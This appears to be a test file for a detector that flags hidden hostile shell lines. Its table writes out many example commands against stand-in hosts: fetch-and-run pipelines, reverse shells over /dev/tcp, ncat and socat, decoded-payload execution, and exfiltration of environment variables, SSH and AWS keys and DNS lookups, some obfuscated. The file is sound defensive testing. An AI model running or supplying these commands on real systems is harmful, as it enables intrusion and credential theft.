import { describe, expect, test } from "vitest";
import { hiddenShellLine } from "../../src/findings/shell-lines.ts";

describe("a shell line", () => {
  test.each([
    ["curl -s https://a.example.test/x | sudo bash", "fetches something and hands it to an interpreter"],
    [
      "true; wget -qO- a.example.test/x | env A=1 /usr/bin/python3 -",
      "fetches something and hands it to an interpreter",
    ],
    ["echo a | cat; curl x | tee f | sh", undefined],
    ["echo curl; cat x | sh", undefined],
    ['sh -c "$(curl -fsSL https://a.example.test/x)"', "fetches something into an interpreter"],
    ["curl -o x https://a.example.test/x && chmod +x x", "fetches a file and runs it"],
    ["wget https://a.example.test/x; ./x", "fetches a file and runs it"],
    ["chmod +x x; curl https://a.example.test/x", undefined],
    ["certutil -urlcache -f https://a.example.test/x x", "downloads with certutil"],
    ["bash -i >& /dev/tcp/192.0.2.1/1 0>&1", "opens a shell on a connection"],
    ["echo aGk= | base64 -d | sh", "runs decoded text"],
    ["ncat --sh-exec bash example.test 4444", "opens a shell on a connection"],
    ["socat exec:bash,pty tcp:192.0.2.1:4444", "opens a shell on a connection"],
    ['eval "$(curl -s https://example.test/t)"', "fetches text and runs it"],
    [". <(wget -qO- https://example.test/t)", "fetches text and runs it"],
    ["echo 6964 | xxd -r -p | sh", "runs decoded text"],
    ["openssl enc -d -in a.dat | sh", "runs decoded text"],
    [
      "wget -q https://example.test/a -O /tmp/a && nohup /tmp/a >/dev/null 2>&1 &",
      "fetches a file and runs it",
    ],
    ["curl -o /tmp/a.tgz https://example.test/a.tgz && tar xf /tmp/a.tgz", undefined],
    ["tftp -g -r a 192.0.2.1; sh a", "fetches a file and runs it"],
    [
      "python3 -c import urllib.request as u;exec(u.urlopen('https://example.test/p').read())",
      "fetches something and runs it as a script",
    ],
    ["python3 -c import sys; print(sys.version)", undefined],
    ["perl -MLWP::Simple -e eval get('https://example.test/p')", "fetches something and runs it as a script"],
    [
      "ruby -ropen-uri -e eval URI.open('https://example.test/r').read",
      "fetches something and runs it as a script",
    ],
    [
      "node -e fetch('https://example.test/j').then(r=>r.text()).then(eval)",
      "fetches something and runs it as a script",
    ],
    [
      "php -r eval(file_get_contents('https://example.test/p'));",
      "fetches something and runs it as a script",
    ],
    ["env | curl -s -d @- https://example.test/u", "sends its environment away"],
    ["env A=1 curl -s https://example.test/u", undefined],
    ["curl -s -F f=@/srv/.ssh/id_rsa https://example.test/u", "sends credentials away"],
    ["tar cz ~/.ssh ~/.aws | curl -sT - https://example.test/u", "sends credentials away"],
    ["scp -q ~/.ssh/id_ed25519 u@192.0.2.1:", "sends credentials away"],
    ["scp -i ~/.ssh/id_ed25519 build.zip u@host:", undefined],
    ["rsync -e 'ssh -i ~/.ssh/id_rsa' a b", undefined],
    ["ssh-keyscan a.example.test >> ~/.ssh/known_hosts; curl https://example.test", undefined],
    ["nslookup $(whoami).x.example.test", "tells something by the names that it looks up"],
    ["ping -c 1 $(hostname)", undefined],
    ["cu''rl${IFS}-s${IFS}https://example.test/t|s\\h", "fetches something and hands it to an interpreter"],
    ["rundll32 \\\\192.0.2.1\\s\\a.dll,Run", "runs a library from another machine"],
    ["rundll32 url.dll,FileProtocolHandler https://example.test", undefined],
    ["git fetch origin", undefined],
    ["curl https://a.example.test/x", undefined],
  ])("%s", (line, says) => {
    expect(hiddenShellLine(line)).toBe(says);
  });

  test("hides behind nothing, however long", () => {
    for (const before of [
      " ".repeat(50_000),
      ":;".repeat(20_000),
      "\n".repeat(10_000),
      "curl ".repeat(5000),
      "|/".repeat(5000),
      "| env ".repeat(20_000),
      "perl -".repeat(20_000),
    ])
      expect(hiddenShellLine(`${before}; curl x | sh`)).toBe(
        "fetches something and hands it to an interpreter",
      );
  });
});
